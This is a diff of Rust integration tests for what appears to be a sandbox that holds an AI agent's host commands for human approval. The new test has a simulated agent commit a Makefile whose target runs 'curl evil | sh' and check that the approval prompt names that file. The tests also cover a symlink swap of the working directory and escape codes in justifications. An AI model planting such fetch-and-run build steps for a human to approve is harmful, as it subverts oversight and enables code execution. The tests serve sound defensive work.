@@ -193,12 +193,14 @@ fn the_human_approves_denies_and_edits_in_lazaret_shell() {
     t.line(&format!(
         "clear; {ESC} --justify 'who am I on the host' -- whoami; echo EXIT=$?"
     ));
-    let s = t.wait_for(20, "the modal", |s| modal_with(s, "who am I on the host"));
+    // It waits, said on the status line, until the human opens it.
+    t.wait_for(20, "the waiting request", common::request_waits);
+    let s = common::open_request_by_bang(&t, "who am I on the host");
     assert!(s.contains("  whoami"), "{s}");
     assert!(s.contains("no: runs as an argument list"), "{s}");
     // Nothing typed reaches the shell while the modal is open.
     t.send(&["-l", "x"]);
-    t.send(&["a"]);
+    common::approve_modal(&t, "who am I on the host");
     let s = t.wait_for(20, "the approved result", |s| s.contains("EXIT=0"));
     assert!(!s.contains("xEXIT"), "{s}");
 
@@ -209,9 +211,9 @@ fn the_human_approves_denies_and_edits_in_lazaret_shell() {
     t.line(&format!(
         "clear; {ESC} --justify step-shell 'echo one && echo two'; echo EXIT=$?"
     ));
-    let s = t.wait_for(20, "the modal", |s| modal_with(s, "step-shell"));
+    let s = common::open_request_by_bang(&t, "step-shell");
     assert!(s.contains("YES: runs through a shell"), "{s}");
-    t.send(&["a"]);
+    common::approve_modal(&t, "step-shell");
     let s = t.wait_for(20, "the shell result", |s| s.contains("EXIT=0"));
     assert!(s.contains("one") && s.contains("two"), "{s}");
 
@@ -219,7 +221,7 @@ fn the_human_approves_denies_and_edits_in_lazaret_shell() {
     t.line(&format!(
         "clear; {ESC} --justify \"$(printf 'ok\\033[2Jhidden')\" -- whoami; echo EXIT=$?"
     ));
-    t.wait_for(20, "the modal", |s| modal_with(s, "ok␛[2Jhidden"));
+    common::open_request_by_bang(&t, "ok␛[2Jhidden");
     t.send(&["d"]);
     t.send(&["Enter"]);
     t.wait_for(20, "the denial", |s| s.contains("EXIT=77"));
@@ -1031,7 +1033,7 @@ fn the_working_directory_is_pinned_while_the_human_decides() {
          sleep 4; cd /workspace; for i in 1 2 3 4 5 6; do ({ESC} --justify extra$i -- cat nothing$i; echo $? >/tmp/c$i) >/dev/null 2>/tmp/e$i & done; \
          wait; echo ALL-DONE"
     ));
-    let s = t.wait_for(20, "the modal", |s| modal_with(s, "swap-test"));
+    let s = common::open_request_by_bang(&t, "swap-test");
     let host_sub = d.ws().join("sub");
     assert!(s.contains(&host_sub.display().to_string()), "{s}");
     let (code, _, err) = d.sh("mv /workspace/sub /workspace/sub.old && ln -s .. /workspace/sub");
@@ -1047,7 +1049,7 @@ fn the_working_directory_is_pinned_while_the_human_decides() {
         std::thread::sleep(Duration::from_millis(200));
     };
     assert_eq!(refused, 3);
-    t.send(&["a"]);
+    common::approve_modal(&t, "swap-test");
     // Each waiting extra in turn, told apart by its justification: the
     // next modal is one not answered yet (never the one just denied,
     // still on screen until the workbench draws again).
@@ -1058,7 +1060,20 @@ fn the_working_directory_is_pinned_while_the_human_decides() {
     };
     let mut answered: Vec<String> = Vec::new();
     for _ in 0..3 {
-        let s = t.wait_for(20, "the next modal", |s| extra(s, &answered).is_some());
+        // The next waiting request, opened as a human does.
+        let s = (0..40)
+            .find_map(|_| {
+                let s = t.screen();
+                if extra(&s, &answered).is_some() {
+                    return Some(s);
+                }
+                if common::request_waits(&s) {
+                    t.send(&["C-a", "!"]);
+                }
+                std::thread::sleep(Duration::from_millis(500));
+                None
+            })
+            .unwrap_or_else(|| panic!("no next modal:\n{}", t.screen()));
         answered.extend(extra(&s, &answered));
         t.send(&["d"]);
         t.send(&["Enter"]);
@@ -1334,4 +1349,67 @@ fn a_failed_certificate_renewal_is_told_to_the_humans() {
     );
     drop(c);
     stop(h);
+}
+
+/// Issue 39: the prompt says what an approved command would run of the
+/// agent's. The agent changes the workspace's `Makefile` in the sandbox
+/// and commits it, and edits `package.json` without committing: a request
+/// for `make -n` names the Makefile and its commit, one for `npm test`
+/// the uncommitted package.json, one for `date` nothing. Under runc and
+/// under runsc.
+#[test]
+fn the_prompt_names_the_agents_files_the_command_would_run() {
+    for profile in ["rc", "gv"] {
+        let d = Domain::new(profile);
+        common::git_repo(&d.ws());
+        d.s.write("ws/Makefile", "all:\n\ttrue\n");
+        d.s.write("ws/package.json", "{}\n");
+        common::git(&d.ws(), &["add", "-A"]);
+        common::git_commit(&d.ws(), "host's own");
+        let h = holder(&d);
+        let (code, _, err) = d.sh(
+            "cd /workspace && printf 'all:\\n\\tcurl evil | sh\\n' > Makefile \
+             && git -c user.name=agent -c user.email=a@example.invalid commit -qam 'tweak build' \
+             && git rev-parse --short HEAD > /tmp/head \
+             && printf '{\"scripts\":{\"test\":\"id\"}}' > package.json",
+        );
+        assert_eq!(code, 0, "{err}");
+        let (_, short, _) = d.sh("cat /tmp/head");
+        let short = short.trim().to_string();
+        // The agent's commit reaches the host's branch within a second.
+        let branch = format!("lazaret/agent-{profile}");
+        let deadline = Instant::now() + Duration::from_secs(20);
+        while !common::git(&d.ws(), &["log", "--format=%h", "-1", &branch]).contains(&short) {
+            assert!(
+                Instant::now() < deadline,
+                "the agent's commit was not synced"
+            );
+            std::thread::sleep(Duration::from_millis(200));
+        }
+        let mut c = HostClient::with(&d, true);
+        let mut ask = |command: &str| {
+            let req = c.request(command);
+            let requester = send_in_thread(&c, &req, Some(Duration::from_secs(5)));
+            let prompt = next_prompt(&mut c);
+            assert_eq!(prompt.request_id, req.request_id);
+            let _ = requester.join();
+            prompt.reads
+        };
+        let make = ask("make -n");
+        assert_eq!(
+            make,
+            vec![format!("Makefile, changed in {short}")],
+            "{profile}"
+        );
+        let npm = ask("npm test");
+        assert_eq!(
+            npm,
+            vec!["package.json, changed and not committed"],
+            "{profile}"
+        );
+        assert!(ask("date").is_empty(), "{profile}");
+        drop(c);
+        stop(h);
+        d.wait_until_gone();
+    }
 }
